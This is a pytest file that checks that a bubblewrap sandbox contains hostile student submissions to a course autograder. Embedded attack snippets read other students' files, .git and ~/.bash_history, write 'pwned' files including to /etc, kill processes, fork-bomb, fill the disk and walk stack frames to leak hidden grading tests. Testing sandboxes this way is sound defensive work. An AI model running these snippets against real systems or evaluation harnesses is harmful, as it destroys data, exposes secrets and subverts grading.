"""The bubblewrap sandbox: adversarial submissions graded row by row, nothing leaks, nothing survives.

Each attack is one student of one grading run (`--sandbox required`, two helpers). An attack that
worked would show: its "canary" cell makes an exercise fail with a message naming what got through,
a file appears where it must not, the listener on 127.0.0.1 gets a connection, or a process of a
sandbox uid is still alive afterwards. Fork bomb: the process limit was first checked with a
bounded loop (2000 forks tried, 255 succeeded under the limit of 256, no process left afterwards).

The tests that need a working bubblewrap skip without one, saying why, unless $LM_REQUIRE_SANDBOX=1
(.ci/run sets it): then they fail. Without a working sandbox `grade` refuses (tested here with bwrap
absent and with a bwrap that exits 1), unless `--sandbox off`.
"""

from __future__ import annotations

import copy
import csv
import os
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

import utils.grading.grade as grade_module
from utils.grading import bwrap
from utils.grading.__main__ import main as cli
from utils.grading.assemble import plan_submission
from utils.grading.grade import grade, load_sources
from utils.grading.notebook import grade_id, hidden_blocks
from utils.grading.sandbox import Zygote
from utils.grading.scrub import CUT, public_text

FIXTURES = Path(__file__).parent / "fixtures" / "grading"
SOURCE = FIXTURES / "source" / "assignment.ipynb"
NAME = SOURCE.name
TIMEOUT_S = 40.0
MEMORY = 2 * 2**30
EX1, EX2, EX3 = "ex1_temperature_softmax", "ex2_keep_top_k", "ex3_uniform_perplexity"
POINTS = {EX1: 2, EX2: 3, EX3: 1}

WORKS, WHY = bwrap.bwrap_works()
REQUIRED = os.environ.get("LM_REQUIRE_SANDBOX") == "1"


def require_sandbox() -> None:
    """Skip without a working bubblewrap (saying why); fail instead under LM_REQUIRE_SANDBOX=1 (CI)."""
    if not WORKS:
        message = f"no working bubblewrap here: {WHY}"
        if REQUIRED:
            pytest.fail(f"LM_REQUIRE_SANDBOX=1 but the sandbox tests cannot run: {message}")
        pytest.skip(message)


@pytest.fixture
def needs_bwrap() -> None:
    require_sandbox()

# A canary: uniform_perplexity fails with the list of what got through, so a leak shows in the grade book.
CANARY = ("def uniform_perplexity(V):\n"
          "    if _got_through:\n"
          "        raise RuntimeError(f'got through: {_got_through}')\n"
          "    return float(V)\n")


def _cell(nb, gid: str):
    return next(cell for cell in nb.cells if grade_id(cell) == gid)


def _prepend(nb, gid: str, code: str) -> None:
    _cell(nb, gid).source = code + "\n" + _cell(nb, gid).source


def _canary(nb, probe: str) -> None:
    """`probe` collects what got through into _got_through; exercise 3 reports it."""
    _prepend(nb, EX1, "_got_through = []\n" + probe)
    _cell(nb, EX3).source = CANARY


def sandbox_uids_alive(uids: set[int]) -> list[str]:
    """Processes of the machine (seen from outside) that run as one of the sandbox uids."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                status = Path(f"/proc/{entry}/status").read_text()
            except OSError:
                continue
            uid = int(re.search(r"^Uid:\s+(\d+)", status, re.MULTILINE).group(1))
            if uid in uids:
                found.append(f"pid {entry} uid {uid}")
    return found


class Listener:
    """A TCP server on 127.0.0.1 that counts connections (none must come from a sandbox)."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port, self.connections, self._stop = self.server.getsockname()[1], 0, False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._stop = True
        self.thread.join()
        self.server.close()


def attacks(paths: dict[str, Path], port: int) -> dict[str, object]:
    """student -> function that turns the solution notebook into that attack."""
    secret = {k: str(v) for k, v in paths.items()}

    def network(nb):
        _canary(nb, "import socket\n"
                    "try:\n"
                    f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'answers')\n"
                    "    _got_through.append('a connection to 127.0.0.1')\n"
                    "except OSError:\n"
                    "    pass\n")

    def reads(nb):
        targets = [secret["other_notebook"], secret["source_notebook"], secret["submissions"], secret["out"],
                   secret["course_notebooks"], secret["git"], secret["home"] + "/.bash_history"]
        _canary(nb, "import os\n"
                    f"for _p in {targets!r}:\n"
                    "    try:\n"
                    "        if (os.listdir(_p) if os.path.isdir(_p) else open(_p).read()):  # hidden: empty\n"
                    "            _got_through.append(_p)\n"
                    "    except OSError:\n"
                    "        pass\n"
                    "for _pid in os.listdir('/proc'):\n"
                    "    try:\n"
                    "        if _pid.isdigit() and b'pytest' in open(f'/proc/{_pid}/cmdline', 'rb').read():\n"
                    "            _got_through.append('the grader in /proc')\n"
                    "    except OSError:\n"
                    "        pass\n")

    def writes(nb):
        targets = [secret["repo_file"], secret["own_folder"] + "/pwned.txt", secret["out"] + "/grades.csv",
                   secret["host_tmp_file"], secret["home"] + "/pwned.txt", "/etc/pwned.txt"]
        _canary(nb, "import os\n"
                    f"for _p in {targets!r}:\n"
                    "    try:\n"
                    "        with open(_p, 'a') as _f:\n"
                    "            _f.write('pwned')\n"
                    "        _got_through.append(_p)\n"
                    "    except OSError:\n"
                    "        pass\n"
                    "for _p in ('~/scratch.txt', os.environ['LM_CHECKPOINT_DIR'] + '/x.pt'):\n"
                    "    with open(os.path.expanduser(_p), 'w') as _f:  # its own scratch stays writable\n"
                    "        _f.write('ok')\n")

    def kills(nb):
        _canary(nb, "import os, signal\n"
                    f"for _pid in (os.getppid(), 1, {os.getpid()}, -1):\n"
                    "    try:\n"
                    "        if _pid == os.getpid():\n"
                    "            continue\n"
                    "        os.kill(_pid, signal.SIGKILL)\n"
                    "        if _pid != -1:\n"
                    "            _got_through.append(f'kill {_pid}')\n"
                    "    except OSError:\n"
                    "        pass\n")

    def fork_bomb(nb):
        _prepend(nb, EX2, "import os, time\n"
                          "if os.fork() == 0:\n"
                          "    while True:  # every process forks for ever; only the process limit stops it\n"
                          "        try:\n"
                          "            os.fork()\n"
                          "        except OSError:\n"
                          "            time.sleep(0.05)\n"
                          "time.sleep(3)\n")

    def setsid(nb):
        _prepend(nb, EX1, "import os, time\n"
                          "if os.fork() == 0:\n"
                          "    os.setsid()\n"
                          "    if os.fork() == 0:\n"
                          "        while True:\n"
                          "            time.sleep(1)\n"
                          "    os._exit(0)\n")

    def big_file(nb):
        _canary(nb, "_written = 0\n"
                    "try:\n"
                    "    for _n in range(40):  # 40 files of 256 MiB: 10 GiB\n"
                    "        with open(f'big{_n}.bin', 'wb') as _f:\n"
                    "            for _ in range(256):\n"
                    "                _f.write(bytes(2**20))\n"
                    "                _written += 2**20\n"
                    "except OSError:\n"
                    "    pass\n"
                    "if _written > 2**30:\n"
                    "    _got_through.append(f'{_written} bytes written')\n")

    def prints_hidden(nb):
        _cell(nb, EX1).source = (
            "import gc, sys\n"
            "_cells = [c for o in gc.get_objects() if isinstance(o, list) for c in o\n"
            "          if isinstance(c, dict) and c.get('kind') == 'test']\n"
            "_frame = sys._getframe()\n"
            "while _frame is not None:  # the harness's job dict, up the stack\n"
            "    for _v in list(_frame.f_locals.values()):\n"
            "        if isinstance(_v, dict) and isinstance(_v.get('cells'), list):\n"
            "            _cells += [c for c in _v['cells'] if c.get('kind') == 'test']\n"
            "    _frame = _frame.f_back\n"
            "_hidden = sorted({c['source'].split('### BEGIN HIDDEN TESTS')[-1] for c in _cells})\n"
            "assert _hidden, 'the attack found the tests'\n"
            "print('\\n'.join(_hidden))\n"
            "def temperature_softmax(logits, T):\n"
            "    raise RuntimeError('the hidden tests: ' + ' '.join(_hidden))\n")
        _cell(nb, EX2).source = ("def keep_top_k(logits, k):\n"
                                 "    raise ValueError('again: ' + ' | '.join(_hidden))\n")

    return {"network": network, "reads": reads, "writes": writes, "kills": kills, "fork_bomb": fork_bomb,
            "setsid": setsid, "big_file": big_file, "prints_hidden": prints_hidden, "correct": lambda nb: None}


PASS = r"^passed( \[flagged for manual review: uses [^]]*\])?$"
ALL_PASS = {EX1: PASS, EX2: PASS, EX3: PASS}
EXPECTED = {
    "correct": ALL_PASS, "network": ALL_PASS, "reads": ALL_PASS, "writes": ALL_PASS, "kills": ALL_PASS,
    "fork_bomb": ALL_PASS, "setsid": ALL_PASS, "big_file": ALL_PASS,
    "prints_hidden": {EX1: r"^failed: RuntimeError: the hidden tests: ", EX2: r"^failed: ValueError: again: ",
                      EX3: PASS},
}


@pytest.fixture(scope="module")
def sandboxed_run(tmp_path_factory):
    """Every attack submitted by its own student, graded in the sandbox in one run (two helpers)."""
    require_sandbox()
    root = tmp_path_factory.mktemp("sandboxed")
    submissions, out = root / "submissions", root / "out"
    course = Path(__file__).resolve().parents[1]
    paths = {"other_notebook": submissions / "correct" / NAME, "source_notebook": SOURCE.resolve(),
             "submissions": submissions, "out": out, "course_notebooks": course / "notebooks", "git": course / ".git",
             "home": Path.home(), "repo_file": course / "utils" / "grading" / "pwned.txt",
             "own_folder": submissions / "writes", "host_tmp_file": root / "pwned.txt"}
    out.mkdir()
    (out / "grades.csv").write_text("student,notebook,grade_id,points,max_points,feedback\n")
    listener = Listener()
    source = nbformat.read(SOURCE, as_version=4)
    for student, make in attacks(paths, listener.port).items():
        nb = copy.deepcopy(source)
        make(nb)
        (submissions / student).mkdir(parents=True)
        nbformat.write(nb, submissions / student / NAME)
    helpers: list[Zygote] = []

    class Recorded(Zygote):
        def __init__(self, *args, **kwargs) -> None:
            super().__init__(*args, **kwargs)
            helpers.append(self)

    started = time.monotonic()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(grade_module, "Zygote", Recorded)
        grade(load_sources([SOURCE]), submissions, out, TIMEOUT_S, MEMORY, jobs=2, sandbox="required",
              source_dirs=[SOURCE.parent])
    seconds = time.monotonic() - started
    listener.close()
    with open(out / "grades.csv", newline="") as file:
        rows = list(csv.DictReader(file))
    yield {"rows": rows, "out": out, "paths": paths, "connections": listener.connections, "seconds": seconds,
           "uids": {h.sandbox.child_uid for h in helpers}, "helpers": helpers}
    for leftover in (paths["repo_file"], paths["host_tmp_file"]):
        leftover.unlink(missing_ok=True)


@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_attack_graded_row_by_row(sandboxed_run, student: str) -> None:
    rows = {row["grade_id"]: row for row in sandboxed_run["rows"] if row["student"] == student}
    assert sorted(rows) == sorted(gid + "_test" for gid in POINTS), f"{student}: one row per exercise, none lost"
    for gid, pattern in EXPECTED[student].items():
        row = rows[gid + "_test"]
        expected = POINTS[gid] if pattern == PASS else 0
        assert float(row["points"]) == expected, f"{student}/{gid}: {row['feedback']!r}"
        assert re.search(pattern, row["feedback"]), f"{student}/{gid}: {row['feedback']!r} !~ {pattern!r}"


def test_every_helper_was_sandboxed_and_nothing_is_left(sandboxed_run) -> None:
    helpers = sandboxed_run["helpers"]
    assert len(helpers) == 2 and all(h.sandboxed for h in helpers)
    assert all(uid and uid >= 200_000 for uid in sandboxed_run["uids"]), "submissions ran as unprivileged uids"
    assert sandbox_uids_alive(sandboxed_run["uids"]) == [], "a process of a submission outlived the grading"
    assert sandboxed_run["connections"] == 0, "a submission reached 127.0.0.1 from the sandbox"
    for path in ("repo_file", "host_tmp_file"):
        assert not sandboxed_run["paths"][path].exists(), f"a submission wrote {sandboxed_run['paths'][path]}"
    assert not (sandboxed_run["paths"]["own_folder"] / "pwned.txt").exists()
    assert "pwned" not in (sandboxed_run["out"] / "grades.csv").read_text()


def test_feedback_never_contains_hidden_test_source(sandboxed_run) -> None:
    source = nbformat.read(SOURCE, as_version=4)
    public = public_text(source)
    secrets = []
    for cell in source.cells:
        lines = cell.source.splitlines()
        for begin, end in hidden_blocks(cell.source) if cell.cell_type == "code" else []:
            secrets += [line.strip() for line in lines[begin + 1:end] if line.strip() and line.strip() not in public]
    assert len(secrets) >= 8
    leaked = [r["feedback"] for r in sandboxed_run["rows"] if r["student"] == "prints_hidden"]
    assert any(CUT in text for text in leaked), "the leak was there and was cut out"
    texts = [r["feedback"] for r in sandboxed_run["rows"]]
    texts += [p.read_text() for p in (sandboxed_run["out"] / "feedback").glob("*.md")]
    for text in texts:
        for secret in secrets:
            assert secret not in " ".join(text.split()), f"hidden test line {secret!r} in feedback {text[:200]!r}"


def _job(extra: str) -> dict:
    source = nbformat.read(SOURCE, as_version=4)
    _prepend(source, EX1, extra)
    return plan_submission(source, source, load_sources([SOURCE])[0].exercises).job()


def test_nothing_survives_a_job_and_the_helper_keeps_serving(needs_bwrap) -> None:
    """After each job every process of the submission is gone, while the helper (outside its uid) lives on."""
    daemon = ("import os, time\n"
              "if os.fork() == 0:\n"
              "    os.setsid()\n"
              "    while True:\n"
              "        time.sleep(1)\n")
    with Zygote(["torch"], sandbox=bwrap.SandboxSpec(hidden=[SOURCE.parent.resolve()])) as helper:
        for _ in range(2):
            result = helper.run(_job(daemon), TIMEOUT_S, MEMORY)
            assert [r["passed"] for r in result.records if r.get("event") == "test"] == [True, True, True]
            assert sandbox_uids_alive({helper.sandbox.child_uid}) == []
        assert helper._process.poll() is None, "the same helper served both jobs"


def _fake_bwrap(folder: Path) -> Path:
    """A `bwrap` that exits 1 with a complaint, as on a machine that forbids user namespaces."""
    folder.mkdir(parents=True, exist_ok=True)
    fake = folder / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    return folder


@pytest.mark.parametrize("machine", ["bwrap absent", "bwrap exits 1"])
def test_without_a_working_sandbox_grade_refuses_and_says_how_to_get_one(machine, monkeypatch, capsys, tmp_path):
    bin_folder = _fake_bwrap(tmp_path / "bin")
    if machine == "bwrap absent":
        (bin_folder / "bwrap").unlink()
    monkeypatch.setenv("PATH", str(bin_folder))
    why = "bubblewrap (bwrap) is not installed" if machine == "bwrap absent" else "No permissions to create new namespace"
    works, reason = bwrap.bwrap_works()
    assert not works and why in reason, reason
    for mode in ("required", "auto"):
        with pytest.raises(bwrap.SandboxUnavailable) as refused:
            bwrap.choose_sandbox(mode)
        message = str(refused.value)
        for part in (why, "nothing was graded", "apt-get install bubblewrap", "container", "--sandbox off",
                     "at your own risk"):
            assert part in message, (mode, part, message)
    submissions = tmp_path / "subs"
    (submissions / "alice").mkdir(parents=True)
    nbformat.write(nbformat.read(SOURCE, as_version=4), submissions / "alice" / NAME)
    out = tmp_path / "out"
    for extra in ([], ["--sandbox", "auto"], ["--sandbox", "required"]):
        code = cli(["grade", str(submissions), "--source", str(SOURCE.parent), "--out", str(out), *extra])
        err = capsys.readouterr().err
        assert code == 2 and err.startswith("error: no working sandbox here (") and "--sandbox off" in err, err
        assert not out.exists(), "nothing graded, nothing written"


def test_the_cli_refuses_in_a_fresh_process_with_a_bwrap_that_exits_1(tmp_path) -> None:
    """The real command, its PATH holding only a failing bwrap: exit 2, the reason, nothing written."""
    submissions, out = tmp_path / "subs", tmp_path / "out"
    (submissions / "alice").mkdir(parents=True)
    nbformat.write(nbformat.read(SOURCE, as_version=4), submissions / "alice" / NAME)
    env = {**os.environ, "PATH": str(_fake_bwrap(tmp_path / "bin"))}
    done = subprocess.run([sys.executable, "-m", "utils.grading", "grade", str(submissions), "--source",
                           str(SOURCE.parent), "--out", str(out)], env=env, capture_output=True, text=True, timeout=300,
                          cwd=Path(__file__).resolve().parents[1])
    assert done.returncode == 2, done.stdout + done.stderr
    assert "error: no working sandbox here" in done.stderr and "exits with code 1" in done.stderr, done.stderr
    assert "No permissions to create new namespace" in done.stderr and not out.exists()


def test_sandbox_off_grades_without_one_and_says_so(monkeypatch, capsys, tmp_path) -> None:
    monkeypatch.setenv("PATH", str(_fake_bwrap(tmp_path / "bin")))
    assert bwrap.choose_sandbox("off") is False
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "grading WITHOUT a sandbox (--sandbox off)" in err


def test_lm_require_sandbox_turns_the_skip_into_a_failure(tmp_path) -> None:
    """Under LM_REQUIRE_SANDBOX=1 a machine without bwrap fails the sandbox tests; without it they skip."""
    test = "tests/test_grading_sandbox.py::test_nothing_survives_a_job_and_the_helper_keeps_serving"
    outcomes = {}
    for required in ("1", "0"):
        env = {**os.environ, "PATH": str(_fake_bwrap(tmp_path / "bin")), "LM_REQUIRE_SANDBOX": required}
        done = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-o", "addopts=", test],
                              env=env, capture_output=True, text=True, timeout=600,
                              cwd=Path(__file__).resolve().parents[1])
        outcomes[required] = (done.returncode, done.stdout[-1500:])
    assert outcomes["1"][0] != 0 and "LM_REQUIRE_SANDBOX=1 but the sandbox tests cannot run" in outcomes["1"][1], outcomes
    assert outcomes["0"][0] == 0 and "1 skipped" in outcomes["0"][1], outcomes


def test_mount_plan_hides_secrets_and_reopens_what_python_needs(tmp_path) -> None:
    secret, home = tmp_path / "submissions", tmp_path / "home"
    (home / "py").mkdir(parents=True)
    secret.mkdir()
    plan = bwrap.mount_plan([secret], [home / "py"], home)
    assert not bwrap._visible_from(plan, secret) and not bwrap._visible_from(plan, home)
    assert not bwrap._visible_from(plan, Path("/tmp")) and bwrap._visible_from(plan, home / "py")
    assert bwrap._visible_from(plan, Path("/usr/lib")), "the system stays visible (read-only)"
    course = Path(__file__).resolve().parents[1]
    plan = bwrap.mount_plan([course / "notebooks"], [course], None)
    assert ("mask", course / "notebooks") in plan and bwrap._visible_from(plan, course / "utils")
    with pytest.raises(ValueError, match="must be hidden from submissions but holds what the grader needs"):
        bwrap.mount_plan([home], [home / "py"], None)


def test_scrub_cuts_hidden_code_keeps_public_names_and_assert_messages() -> None:
    from utils.grading.scrub import hidden_text, scrub

    source = load_sources([SOURCE])[0]
    hidden, public = hidden_text(source.exercises), public_text(source.notebook, source.exercises)
    leak = "RuntimeError: for _V in (1, 2, 65, 1000): assert abs(uniform_perplexity(_V) - _V) < 1e-6 * _V"
    assert scrub(leak, hidden, public) == f"RuntimeError: {CUT} {CUT}"
    fine = "NameError: name 'temperature_softmax' is not defined (your solution cell ex1_temperature_softmax raised)"
    assert scrub(fine, hidden, public) == fine
    assert scrub("x", [], "") == "x"
    # A hidden assert's own message is meant to be shown; its code is not.
    hidden_line = ['assert torch.equal(m, ref), f"make_causal_mask({_T}) is not the causal mask"']
    message_text = "make_causal_mask(\n) is not the causal mask"  # the literals of that message
    shown = "AssertionError: make_causal_mask(5) is not the causal mask"
    assert scrub(shown, hidden_line, message_text) == shown
    assert CUT in scrub('torch.equal(m, ref), f"make_causal_mask', hidden_line, message_text)


def test_binds_under_tmp_get_traversable_parent_folders(monkeypatch, tmp_path) -> None:
    """A course checked out under /tmp: the folders bwrap makes in the private /tmp must be 0755 for the child's uid."""
    from utils.grading import bwrap

    monkeypatch.setattr(bwrap, "needed_paths", lambda: [Path("/tmp/ci-clone/course/.venv")])
    command = bwrap.sandbox_command(["true"], bwrap.SandboxSpec(hidden=[]), tmp_path)
    text = " ".join(command)
    assert "--perms 0755 --dir /tmp/ci-clone --perms 0755 --dir /tmp/ci-clone/course" in text, text
    assert text.index("--tmpfs /tmp") < text.index("--dir /tmp/ci-clone") < text.index("--ro-bind /tmp/ci-clone/course/.venv")
